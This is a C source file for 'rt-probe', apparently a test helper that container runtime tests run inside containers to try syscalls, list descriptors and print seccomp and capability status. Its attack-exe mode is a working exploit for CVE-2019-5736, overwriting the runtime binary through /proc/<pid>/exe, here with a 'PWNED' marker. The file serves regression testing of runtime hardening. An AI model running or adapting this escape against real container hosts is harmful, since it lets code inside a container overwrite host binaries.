/* rt-probe: a static helper the runtime tests run inside containers to try
 * what busybox cannot: single system calls, descriptor and cwd checks, and
 * the known runtime escapes. Prints one result line per action; exits 0
 * unless the arguments are wrong.
 *
 *   rt-probe syscall NAME        try a syscall: add_key, unshare-user, keyctl,
 *                                mkdir, personality, ptrace, bpf
 *   rt-probe fds                 list open descriptors and their targets
 *   rt-probe cwd                 print the working directory
 *   rt-probe status              NoNewPrivs, Seccomp and capability lines
 *   rt-probe attack-exe SECONDS  CVE-2019-5736: for SECONDS, open
 *                                /proc/<pid>/exe of every other process,
 *                                and write "PWNED" through any that opens
 *   rt-probe write PATH TEXT     write TEXT to PATH, print the result */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int report(const char *what, long r)
{
        if (r < 0)
                printf("%s: %s\n", what, strerrorname_np(errno));
        else
                printf("%s: ok\n", what);
        return 0;
}

static int try_syscall(const char *name)
{
        if (strcmp(name, "add_key") == 0)
                return report(name, syscall(SYS_add_key, "user", "bh-probe", "x", 1,
                                            -3 /* KEY_SPEC_SESSION_KEYRING */));
        if (strcmp(name, "keyctl") == 0)
                return report(name, syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3, 0));
        if (strcmp(name, "unshare-user") == 0)
                return report(name, unshare(CLONE_NEWUSER));
        if (strcmp(name, "mkdir") == 0)
                return report(name, mkdir("/tmp/bh-probe-dir", 0700));
        if (strcmp(name, "personality") == 0)
                return report(name, personality(0xffffffff));
        if (strcmp(name, "ptrace") == 0)
                return report(name, ptrace(PTRACE_TRACEME, 0, 0, 0));
        if (strcmp(name, "bpf") == 0)
                return report(name, syscall(SYS_bpf, 0, NULL, 0));
        fprintf(stderr, "rt-probe: unknown syscall %s\n", name);
        return 2;
}

static int list_fds(void)
{
        DIR *d = opendir("/proc/self/fd");
        if (!d)
                return report("fds", -1);
        int self = dirfd(d);
        struct dirent *e;
        while ((e = readdir(d))) {
                if (e->d_name[0] == '.' || atoi(e->d_name) == self)
                        continue;
                char link[512];
                ssize_t n = readlinkat(self, e->d_name, link, sizeof link - 1);
                link[n > 0 ? n : 0] = '\0';
                printf("fd %s -> %s\n", e->d_name, link);
        }
        closedir(d);
        return 0;
}

static int attack_exe(int seconds)
{
        pid_t me = getpid();
        time_t end = time(NULL) + seconds;
        long opened = 0, written = 0, tries = 0;
        while (time(NULL) < end) {
                DIR *d = opendir("/proc");
                struct dirent *e;
                while (d && (e = readdir(d))) {
                        pid_t pid = atoi(e->d_name);
                        if (pid <= 0 || pid == me)
                                continue;
                        char path[64];
                        snprintf(path, sizeof path, "/proc/%d/exe", pid);
                        tries++;
                        int fd = open(path, O_PATH | O_CLOEXEC);
                        if (fd < 0)
                                continue;
                        char self_exe[256], target[256];
                        ssize_t a = readlink("/proc/self/exe", self_exe, sizeof self_exe - 1);
                        ssize_t b = readlink(path, target, sizeof target - 1);
                        if (a > 0 && b > 0 && a == b && memcmp(self_exe, target, (size_t)a) == 0) {
                                close(fd);
                                continue;
                        }
                        opened++;
                        printf("opened exe of pid %d\n", pid);
                        char via[64];
                        snprintf(via, sizeof via, "/proc/self/fd/%d", fd);
                        for (int i = 0; i < 2000; i++) {
                                int w = open(via, O_WRONLY | O_CLOEXEC);
                                if (w >= 0) {
                                        if (write(w, "PWNED", 5) == 5)
                                                written++;
                                        close(w);
                                        break;
                                }
                                if (errno != ETXTBSY)
                                        break;
                                usleep(100);
                        }
                        close(fd);
                }
                if (d)
                        closedir(d);
        }
        printf("attack-exe: %ld tries, %ld opened, %ld written\n", tries, opened, written);
        fflush(stdout);
        return 0;
}

int main(int argc, char **argv)
{
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc >= 3 && strcmp(argv[1], "syscall") == 0)
                return try_syscall(argv[2]);
        if (argc == 2 && strcmp(argv[1], "fds") == 0)
                return list_fds();
        if (argc == 2 && strcmp(argv[1], "cwd") == 0) {
                char buf[4096];
                if (!getcwd(buf, sizeof buf))
                        return report("cwd", -1);
                printf("cwd: %s\n", buf);
                return 0;
        }
        if (argc == 2 && strcmp(argv[1], "status") == 0) {
                FILE *f = fopen("/proc/self/status", "r");
                char line[256];
                while (f && fgets(line, sizeof line, f))
                        if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) ||
                            !strncmp(line, "Seccomp:", 8))
                                fputs(line, stdout);
                if (f)
                        fclose(f);
                return 0;
        }
        if (argc == 3 && strcmp(argv[1], "attack-exe") == 0)
                return attack_exe(atoi(argv[2]));
        if (argc == 4 && strcmp(argv[1], "write") == 0) {
                int fd = open(argv[2], O_WRONLY | O_CLOEXEC);
                long r = fd < 0 ? -1 : write(fd, argv[3], strlen(argv[3]));
                if (fd >= 0)
                        close(fd);
                return report("write", r);
        }
        fprintf(stderr, "usage: see the comment at the top of rt-probe.c\n");
        return 2;
}
